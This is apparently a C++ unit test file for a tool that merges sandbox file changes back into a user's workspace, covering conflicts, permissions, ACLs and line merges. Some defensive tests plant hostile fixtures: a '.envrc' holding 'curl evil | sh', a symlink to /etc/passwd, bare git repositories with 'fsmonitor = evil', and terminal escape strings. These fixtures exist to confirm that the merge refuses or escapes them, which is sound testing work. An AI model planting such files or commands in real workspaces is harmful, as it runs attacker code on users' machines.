#include "orchestrator/changes/merge.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <sys/xattr.h>

#include <array>

#include "orchestrator/changes/undo.h"
#include "tests/unit/changes/workbench.h"

namespace cofferdam::orchestrator::changes {
namespace {

using fakes::directory;
using fakes::file;
using fakes::LayerBuilder;
using fakes::link;
using fakes::Tree;

const Tree& base() {
  static const Tree kBase = {
      {"a.txt", file("one\n")}, {"b.sh", file("#!/bin/sh\n", 0755)},
      {"dir", directory()},     {"dir/x", file("x")},
      {"dir/sub", directory()}, {"dir/sub/y", file("y")},
      {"link", link("a.txt")},  {"config.txt", file("read me\n")},
  };
  return kBase;
}

// A merge that must not write: the workspace and what lies beside it stay as they are.
MergeReport refused_merge(const Workbench& bench, const LayerBuilder& layer,
                          const MergeOptions& options = {}) {
  const Tree before = bench.everything();
  MergeReport report = merge_of(layer, options);
  EXPECT_EQ(report.exit_status(), 1);
  EXPECT_FALSE(report.written);
  EXPECT_EQ(bench.everything(), before) << fakes::difference(bench.everything(), before);
  return report;
}

TEST(Merge, TakesEveryKindOfChangeHome) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.put("a.txt", file("two\n"));
  layer.chmod("b.sh", 0600);
  layer.put("link", link("b.sh"));
  layer.put("new", file(std::string("\0bin\xff", 5)));
  layer.put("deep", directory(0700));
  layer.put("deep/er", directory());
  layer.put("deep/er/f", file("f"));
  layer.remove("dir/sub");
  layer.put("dir/sub", file("a file now"));
  layer.remove("dir/x");
  layer.put("dir/x", directory(0750));
  layer.put("dir/x/in", file("in"));
  layer.chmod("dir", 0711);
  const MergeReport report = merge_of(layer);
  EXPECT_EQ(report.exit_status(), 0) << describe(report, false);
  EXPECT_TRUE(report.written);
  EXPECT_EQ(bench.ours(), layer.theirs()) << fakes::difference(bench.ours(), layer.theirs());
}

TEST(Merge, ASecondMergeHasNothingToDoEvenAfterLaterEditsOfTheUser) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.put("a.txt", file("two\n"));
  layer.remove("dir");
  ASSERT_EQ(merge_of(layer).exit_status(), 0);
  EXPECT_EQ(*count_unmerged_changes(layer.record()), 0U);
  bench.edit("a.txt", file("my own later edit\n"));
  const MergeReport again = merge_of(layer);
  EXPECT_EQ(again.exit_status(), 0);
  EXPECT_FALSE(again.written);
  EXPECT_TRUE(again.items.empty());
  EXPECT_EQ(*count_unmerged_changes(layer.record()), 0U);
  EXPECT_EQ(bench.ours().at("a.txt").content, "my own later edit\n");
}

TEST(Merge, APathThatChangesAgainAfterAMergeHasTheMergedVersionAsItsBase) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.put("a.txt", file("two\n"));
  ASSERT_EQ(merge_of(layer).exit_status(), 0);
  layer.forge_upper("a.txt", file("three\n"));
  const MergeReport report = merge_of(layer);
  EXPECT_EQ(report.exit_status(), 0) << describe(report, false);
  EXPECT_EQ(bench.ours().at("a.txt").content, "three\n");
  layer.forge_upper("a.txt", file("four\n"));
  bench.edit("a.txt", file("mine\n"));
  refused_merge(bench, layer);
}

struct ConflictCase {
  const char* name;
  void (*theirs)(LayerBuilder&);
  void (*ours)(const Workbench&);
  const char* path;
};

TEST(Merge, ConflictsWriteNothingAndSayWhatEachSideDid) {
  const ConflictCase cases[] = {
      {"lost update", [](LayerBuilder& l) { l.put("a.txt", file("theirs")); },
       [](const Workbench& b) { b.edit("a.txt", file("ours")); }, "a.txt"},
      {"mode against content", [](LayerBuilder& l) { l.put("a.txt", file("theirs")); },
       [](const Workbench& b) { b.edit("a.txt", file("one\n", 0600)); }, "a.txt"},
      {"deleted here, changed there", [](LayerBuilder& l) { l.put("a.txt", file("theirs")); },
       [](const Workbench& b) { b.erase("a.txt"); }, "a.txt"},
      {"changed here, deleted there", [](LayerBuilder& l) { l.remove("a.txt"); },
       [](const Workbench& b) { b.edit("a.txt", file("ours")); }, "a.txt"},
      {"both created", [](LayerBuilder& l) { l.put("new", file("theirs")); },
       [](const Workbench& b) { b.edit("new", file("ours")); }, "new"},
      {"link against link", [](LayerBuilder& l) { l.put("link", link("b.sh")); },
       [](const Workbench& b) { b.edit("link", link("dir/x")); }, "link"},
      {"type", [](LayerBuilder& l) { l.put("a.txt", file("theirs")); },
       [](const Workbench& b) { b.edit("a.txt", link("b.sh")); }, "a.txt"},
      {"deleted directory holds a new name", [](LayerBuilder& l) { l.remove("dir"); },
       [](const Workbench& b) { b.edit("dir/sub/mine", file("ours")); }, "dir/sub"},
      {"deleted directory holds a changed file", [](LayerBuilder& l) { l.remove("dir"); },
       [](const Workbench& b) { b.edit("dir/x", file("ours")); }, "dir/x"},
      {"directory gone, file added", [](LayerBuilder& l) { l.put("dir/new", file("theirs")); },
       [](const Workbench& b) { b.erase("dir"); }, "dir/new"},
      {"directory became a link to elsewhere", [](LayerBuilder& l) { l.put("dir/new", file("t")); },
       [](const Workbench& b) { b.edit("dir", link("..")); }, "dir/new"},
      {"changed below a directory that became a link",
       [](LayerBuilder& l) { l.put("dir/x", file("theirs")); },
       [](const Workbench& b) { b.edit("dir", link("/etc")); }, "dir/x"},
      {"type change over a directory with a new name",
       [](LayerBuilder& l) {
         l.remove("dir");
         l.put("dir", file("a file now"));
       },
       [](const Workbench& b) { b.edit("dir/mine", file("ours")); }, "dir"},
      {"a FIFO now", [](LayerBuilder& l) { l.put("a.txt", file("theirs")); },
       [](const Workbench& b) {
         b.edit("a.txt", {fakes::NodeKind::kFifo, 0644, {}});
       },
       "a.txt"},
  };
  for (const ConflictCase& c : cases) {
    SCOPED_TRACE(c.name);
    const Workbench bench(base());
    LayerBuilder layer(bench.workspace());
    layer.put("other", file("would be fine"));
    c.theirs(layer);
    c.ours(bench);
    const MergeReport report = refused_merge(bench, layer);
    const MergeItem* item = item_of(report, c.path);
    ASSERT_NE(item, nullptr);
    EXPECT_EQ(item->outcome, Outcome::kConflict);
    EXPECT_FALSE(item->why.empty());
    EXPECT_NE(describe(report, false).find(c.path), std::string::npos);
  }
}

TEST(Merge, AnUnknownBaseIsAConflictUnlessBothSidesAreEqual) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.base_is_unknown = true;
  layer.put("a.txt", file("two\n"));
  refused_merge(bench, layer);
  bench.edit("a.txt", file("two\n"));
  EXPECT_EQ(merge_of(layer).exit_status(), 0);
}

TEST(Merge, EqualOnBothSidesIsNothingToDo) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.put("a.txt", file("two\n"));
  layer.put("new", file("n"));
  layer.remove("dir");
  bench.edit("a.txt", file("two\n"));
  bench.edit("new", file("n"));
  bench.erase("dir");
  const MergeReport report = merge_of(layer);
  EXPECT_EQ(report.exit_status(), 0);
  EXPECT_FALSE(report.written);
  EXPECT_EQ(report.count(Outcome::kSame), report.items.size());
}

TEST(Merge, TheUserDecidesConflictsByPath) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.put("a.txt", file("theirs"));
  layer.put("b.sh", file("theirs", 0755));
  bench.edit("a.txt", file("ours"));
  bench.edit("b.sh", file("ours", 0755));
  MergeOptions options;
  options.take = {{"a.txt", Side::kOurs}, {"b.sh", Side::kTheirs}};
  const MergeReport report = merge_of(layer, options);
  EXPECT_EQ(report.exit_status(), 0) << describe(report, false);
  EXPECT_EQ(bench.ours().at("a.txt").content, "ours");
  EXPECT_EQ(bench.ours().at("b.sh").content, "theirs");
  EXPECT_EQ(*count_unmerged_changes(layer.record()), 0U);
}

TEST(Merge, LinesThatDoNotOverlapAreMerged) {
  const Tree text = {{"t", file("1\n2\n3\n4\n5\n6\n")}, {"crlf", file("1\r\n2\r\n3\r\n4\r\n5")}};
  const Workbench bench(text);
  LayerBuilder layer(bench.workspace());
  layer.put("t", file("1\n2\n3\n4\n5\nsix\n"));
  layer.put("crlf", file("one\r\n2\r\n3\r\n4\r\n5"));
  bench.edit("t", file("one\n2\n3\n4\n5\n6\n"));
  bench.edit("crlf", file("1\r\n2\r\n3\r\n4\r\nfive\xff"));
  const MergeReport report = merge_of(layer);
  EXPECT_EQ(report.exit_status(), 0) << describe(report, false);
  EXPECT_EQ(bench.ours().at("t").content, "one\n2\n3\n4\n5\nsix\n");
  EXPECT_EQ(bench.ours().at("crlf").content, "one\r\n2\r\n3\r\n4\r\nfive\xff");
  EXPECT_NE(describe(report, false).find("merged by lines"), std::string::npos);
  EXPECT_EQ(*count_unmerged_changes(layer.record()), 0U);
  EXPECT_FALSE(merge_of(layer).written);
}

TEST(Merge, LinesThatOverlapAreAConflictUntilMarkersAreAskedFor) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.put("a.txt", file("theirs\n"));
  layer.put("new", file("theirs\n"));
  bench.edit("a.txt", file("ours\n"));
  bench.edit("new", file("ours\n"));
  MergeOptions options;
  options.paths = {"a.txt"};
  EXPECT_NE(describe(refused_merge(bench, layer, options), false).find("--take markers"),
            std::string::npos);
  options.paths = {};
  options.take = {{"", Side::kMarkers}};
  EXPECT_EQ(merge_of(layer, options).exit_status(), 0);
  EXPECT_EQ(bench.ours().at("a.txt").content,
            "<<<<<<< workspace\nours\n||||||| base\none\n=======\ntheirs\n>>>>>>> sandbox\n");
  EXPECT_EQ(bench.ours().at("new").content,
            "<<<<<<< workspace\nours\n=======\ntheirs\n>>>>>>> sandbox\n");
}

TEST(Merge, WhatIsNoTextIsNeverMergedByLinesNorGivenMarkers) {
  const std::string zero(1, '\0');
  const struct {
    const char* name;
    fakes::Node start, theirs, ours;
  } cases[] = {
      {"theirs is binary", file("1\n2\n3\n"), file("1\n2\n3" + zero), file("one\n2\n3\n")},
      {"ours is binary", file("1\n2\n3\n"), file("1\n2\nthree\n"), file(zero + "\n2\n3\n")},
      {"the base was binary", file("1" + zero + "\n2\n3\n"), file("1\n2\n4\n"), file("2\n")},
      {"modes differ", file("1\n2\n3\n"), file("1\n2\nthree\n", 0755), file("one\n2\n3\n")},
      {"a link", file("1\n2\n3\n"), file("1\n2\nthree\n"), link("1")},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    const Workbench bench({{"t", c.start}});
    LayerBuilder layer(bench.workspace());
    layer.put("t", c.theirs);
    bench.edit("t", c.ours);
    MergeOptions options;
    refused_merge(bench, layer, options);
    options.take = {{"t", Side::kMarkers}};
    refused_merge(bench, layer, options);
  }
}

TEST(Merge, APermissionThatTheUmaskWithholdsDoesNotComeHome) {
  const Workbench bench({{"mine", file("m", 0664)}});
  LayerBuilder layer(bench.workspace());
  layer.put("open", file("o", 0666));
  layer.put("wide", directory(0777));
  layer.put("mine", file("changed", 0666));
  const mode_t before = ::umask(027);
  const auto report = merge_of(layer);
  const bool again = merge_of(layer).written;
  ::umask(before);
  EXPECT_EQ(report.exit_status(), 0);
  EXPECT_FALSE(again);
  EXPECT_EQ(bench.ours().at("open").mode, 0640U);
  EXPECT_EQ(bench.ours().at("wide").mode, 0750U);
  // What the repository's own file had, it keeps.
  EXPECT_EQ(bench.ours().at("mine").mode, 0664U);
}

TEST(Merge, WhatReplacesAFileKeepsItsAttributesAndANewOneGetsItsDirectorys) {
  const Workbench bench(base());
  const std::string a = (bench.workspace() / "a.txt").string();
  const char* name = ::geteuid() == 0 ? "trusted.note" : "user.note";
  ASSERT_EQ(::setxattr(a.c_str(), name, "kept", 4, 0), 0);
  ASSERT_EQ(::chmod((bench.workspace() / "dir").c_str(), 02775), 0);
  LayerBuilder layer(bench.workspace());
  layer.put("a.txt", file("two\n"));
  layer.put("dir/sub/n", directory());
  layer.put("dir/n", directory());
  ASSERT_EQ(merge_of(layer).exit_status(), 0);
  std::array<char, 16> value{};
  EXPECT_EQ(::getxattr(a.c_str(), name, value.data(), value.size()), 4);
  EXPECT_EQ(bench.ours().at("dir/n").mode, 02755U);
  EXPECT_EQ(bench.ours().at("dir/sub/n").mode, 0755U);
}

// acl(5) as the kernel keeps it: version 2, then tag, permissions, id of each entry.
std::string access_list(std::uint32_t user) {
  std::string bytes("\x02\0\0\0", 4);
  const auto add = [&](std::uint16_t tag, std::uint16_t permissions, std::uint32_t id) {
    bytes.append(reinterpret_cast<const char*>(&tag), sizeof tag);
    bytes.append(reinterpret_cast<const char*>(&permissions), sizeof permissions);
    bytes.append(reinterpret_cast<const char*>(&id), sizeof id);
  };
  constexpr std::uint32_t kNobody = ~std::uint32_t{0};
  add(0x01, 7, kNobody);
  add(0x02, 6, user);
  add(0x04, 5, kNobody);
  add(0x10, 7, kNobody);
  add(0x20, 0, kNobody);
  return bytes;
}

bool lists(const std::filesystem::path& path, const char* attribute, std::uint32_t user) {
  std::array<char, 256> value{};
  const ssize_t got = ::getxattr(path.c_str(), attribute, value.data(), value.size());
  const std::string bytes(value.data(), got > 0 ? static_cast<std::size_t>(got) : 0);
  return bytes.find(std::string(reinterpret_cast<const char*>(&user), sizeof user)) !=
         std::string::npos;
}

TEST(Merge, AccessListsAreKeptAndHandedDown) {
  const Workbench bench(base());
  const std::string kept = access_list(4711);
  const std::string handed_down = access_list(4712);
  ASSERT_EQ(::setxattr((bench.workspace() / "a.txt").c_str(), "system.posix_acl_access",
                       kept.data(), kept.size(), 0),
            0);
  ASSERT_EQ(::setxattr((bench.workspace() / "dir").c_str(), "system.posix_acl_default",
                       handed_down.data(), handed_down.size(), 0),
            0);
  LayerBuilder layer(bench.workspace());
  layer.put("a.txt", file("two\n", bench.ours().at("a.txt").mode));
  layer.put("dir/new", file("n"));
  layer.put("dir/n", directory());
  layer.put("dir/n/f", file("f"));
  ASSERT_EQ(merge_of(layer).exit_status(), 0);
  const auto top = bench.workspace();
  EXPECT_TRUE(lists(top / "a.txt", "system.posix_acl_access", 4711));
  EXPECT_TRUE(lists(top / "dir/new", "system.posix_acl_access", 4712));
  EXPECT_TRUE(lists(top / "dir/n", "system.posix_acl_default", 4712));
  EXPECT_TRUE(lists(top / "dir/n/f", "system.posix_acl_access", 4712));
  EXPECT_EQ(bench.ours().at("dir/new").mode, 0644U);
}

TEST(Merge, PartsLeaveTheRestAndBringTheDirectoriesTheyNeed) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.put("p", directory());
  layer.put("p/q", directory());
  layer.put("p/q/f", file("f"));
  layer.put("p/g", file("g"));
  layer.put("a.txt", file("two\n"));
  MergeOptions options;
  options.paths = {"p/q/f"};
  EXPECT_EQ(merge_of(layer, options).exit_status(), 0);
  Tree expected = base();
  expected["p"] = directory();
  expected["p/q"] = directory();
  expected["p/q/f"] = file("f");
  EXPECT_EQ(bench.ours(), expected) << fakes::difference(bench.ours(), expected);
  EXPECT_EQ(*count_unmerged_changes(layer.record()), 2U);
  EXPECT_EQ(merge_of(layer).exit_status(), 0);
  EXPECT_EQ(bench.ours(), layer.theirs());
  EXPECT_EQ(*count_unmerged_changes(layer.record()), 0U);
}

TEST(Merge, ADryRunWritesNothingAndSettlesNothing) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.put("a.txt", file("two\n"));
  const Tree before = bench.everything();
  MergeOptions options;
  options.dry_run = true;
  const MergeReport report = merge_of(layer, options);
  EXPECT_EQ(report.exit_status(), 0);
  EXPECT_EQ(report.count(Outcome::kTaken), 1U);
  EXPECT_EQ(bench.everything(), before);
  EXPECT_EQ(*count_unmerged_changes(layer.record()), 1U);
}

TEST(Merge, StaleReadsAreListedAndConflictOnlyWhenAsked) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.read("config.txt");
  layer.read("b.sh");
  layer.put("a.txt", file("two\n"));
  bench.edit("config.txt", file("something else\n"));
  MergeOptions strict;
  strict.strict_reads = true;
  const MergeReport report = refused_merge(bench, layer, strict);
  ASSERT_EQ(report.stale_reads.size(), 1U);
  EXPECT_EQ(report.stale_reads[0].path, "config.txt");
  const MergeReport lenient = merge_of(layer);
  EXPECT_EQ(lenient.exit_status(), 0);
  EXPECT_EQ(lenient.stale_reads.size(), 1U);
}

TEST(Merge, RiskyFilesWantTheirAllowanceByPath) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.put(".envrc", file("curl evil | sh\n"));
  layer.put("out", link("/etc/passwd"));
  layer.put("a.txt", file("two\n"));
  const MergeReport report = refused_merge(bench, layer);
  EXPECT_EQ(item_of(report, ".envrc")->outcome, Outcome::kRefused);
  EXPECT_EQ(item_of(report, "out")->outcome, Outcome::kRefused);
  MergeOptions options;
  options.allow_risky = {".envrc"};
  refused_merge(bench, layer, options);
  options.take = {{"out", Side::kOurs}};
  EXPECT_EQ(merge_of(layer, options).exit_status(), 0);
  EXPECT_TRUE(bench.ours().contains(".envrc"));
  EXPECT_FALSE(bench.ours().contains("out"));
}

TEST(Merge, APlantedBareRepositoryIsRefusedHoweverItIsPutTogether) {
  const struct {
    const char* name;
    Tree ours;    // there already
    Tree theirs;  // planted
  } cases[] = {
      {"whole",
       {},
       {{"p", directory()},
        {"p/HEAD", file("ref: refs/heads/x\n")},
        {"p/objects", directory()},
        {"p/refs", directory()},
        {"p/config", file("[core]\n fsmonitor = evil\n")}}},
      {"the missing piece",
       {{"p", directory()}, {"p/HEAD", file("ref: refs/heads/x\n")}, {"p/objects", directory()}},
       {{"p/refs", directory()}}},
      {"by links",
       {{"real", directory()}},
       {{"p", directory()},
        {"p/HEAD", file("ref: refs/heads/x\n")},
        {"p/objects", link("../real")},
        {"p/refs", link("../real")}}},
      {"by commondir",
       {},
       {{"p", directory()},
        {"p/HEAD", file("ref: refs/heads/x\n")},
        {"p/commondir", file("../q\n")}}},
      {"by case",
       {},
       {{"p", directory()},
        {"p/head", file("ref: refs/heads/x\n")},
        {"p/Objects", directory()},
        {"p/REFS", directory()}}},
      {"the workspace itself",
       {},
       {{"HEAD", file("ref: refs/heads/x\n")}, {"objects", directory()}, {"refs", directory()}}},
      {"the configuration of one that is there",
       {{"p", directory()},
        {"p/HEAD", file("ref: refs/heads/x\n")},
        {"p/objects", directory()},
        {"p/refs", directory()}},
       {{"p/config", file("[core]\n fsmonitor = evil\n")}}},
      {"deep below one that is there",
       {{"p", directory()},
        {"p/HEAD", file("ref: refs/heads/x\n")},
        {"p/objects", directory()},
        {"p/refs", directory()}},
       {{"p/a", directory()}, {"p/a/b", file("x")}}},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    const Workbench bench(c.ours);
    LayerBuilder layer(bench.workspace());
    for (const auto& [path, node] : c.theirs) layer.put(path, node);
    MergeOptions options;
    options.allow_risky = {""};
    const MergeReport report = refused_merge(bench, layer, options);
    EXPECT_EQ(report.count(Outcome::kRefused), c.theirs.size());
    // --take theirs is no way around it, piece by piece neither.
    options.take = {{"", Side::kTheirs}};
    refused_merge(bench, layer, options);
  }
}

TEST(Merge, HalvesOfABareRepositoryDoNotPassOneByOne) {
  const Workbench bench({});
  LayerBuilder layer(bench.workspace());
  layer.put("p", directory());
  layer.put("p/HEAD", file("ref: refs/heads/x\n"));
  layer.put("p/objects", directory());
  layer.put("p/refs", directory());
  MergeOptions options;
  options.paths = {"p/HEAD"};
  EXPECT_EQ(merge_of(layer, options).exit_status(), 0);
  options.paths = {"p/objects"};
  EXPECT_EQ(merge_of(layer, options).exit_status(), 0);
  options.paths = {"p/refs"};
  refused_merge(bench, layer, options);
}

TEST(Merge, NewFilesBelongToWhoOwnsTheirDirectory) {
  if (::geteuid() != 0) GTEST_SKIP() << "only root can give files away";
  const Workbench bench(base());
  ASSERT_EQ(::chown((bench.workspace() / "dir").c_str(), 1234, 2345), 0);
  ASSERT_EQ(::chown((bench.workspace() / "a.txt").c_str(), 77, 78), 0);
  LayerBuilder layer(bench.workspace());
  layer.put("a.txt", file("two\n"));
  layer.put("dir/n", directory());
  layer.put("dir/n/f", file("f"));
  layer.put("dir/n/l", link("f"));
  ASSERT_EQ(merge_of(layer).exit_status(), 0);
  for (const char* path : {"dir/n", "dir/n/f", "dir/n/l"}) {
    struct stat st {};
    ASSERT_EQ(::lstat((bench.workspace() / path).c_str(), &st), 0);
    EXPECT_EQ(st.st_uid, 1234U) << path;
    EXPECT_EQ(st.st_gid, 2345U) << path;
  }
  struct stat st {};
  ASSERT_EQ(::lstat((bench.workspace() / "a.txt").c_str(), &st), 0);
  EXPECT_EQ(st.st_uid, 77U);
}

TEST(Merge, TheReportIsSafeForATerminal) {
  const Workbench bench(base());
  LayerBuilder layer(bench.workspace());
  layer.put("x\x1b[2Jy\n", file("x"));
  const std::string text = describe(merge_of(layer), false);
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
  EXPECT_NE(text.find("\\x1b[2Jy\\n"), std::string::npos);
}

TEST(Merge, AFailureAndWhatIsLeftOverAreSafeForATerminalToo) {
  const std::string evil = "x\x1b]0;owned\a\n\u202ey";
  MergeReport report;
  report.failure = evil + ": no space";
  EXPECT_EQ(describe(report, false).find_first_of("\x1b\a"), std::string::npos);
  report.stuck.push_back({0, evil, evil});
  report.kept = "/state/" + evil;
  report.warning = evil;
  report.omissions.push_back({evil, "hidden", evil, 1});
  report.stale_reads.push_back({evil, "it is gone"});
  UndoReport undo;
  undo.failure = evil;
  undo.stuck = report.stuck;
  undo.kept = report.kept;
  undo.warning = evil;
  undo.branch = evil;
  UndoReport refused;
  refused.changed = report.stuck;
  for (const std::string& text : {describe(report, false), describe(undo), describe(refused)}) {
    EXPECT_EQ(text.find_first_of("\x1b\a"), std::string::npos) << text;
    EXPECT_EQ(text.find("\u202e"), std::string::npos) << text;
    EXPECT_NE(text.find("owned"), std::string::npos) << text;
  }
}

}  // namespace
}  // namespace cofferdam::orchestrator::changes
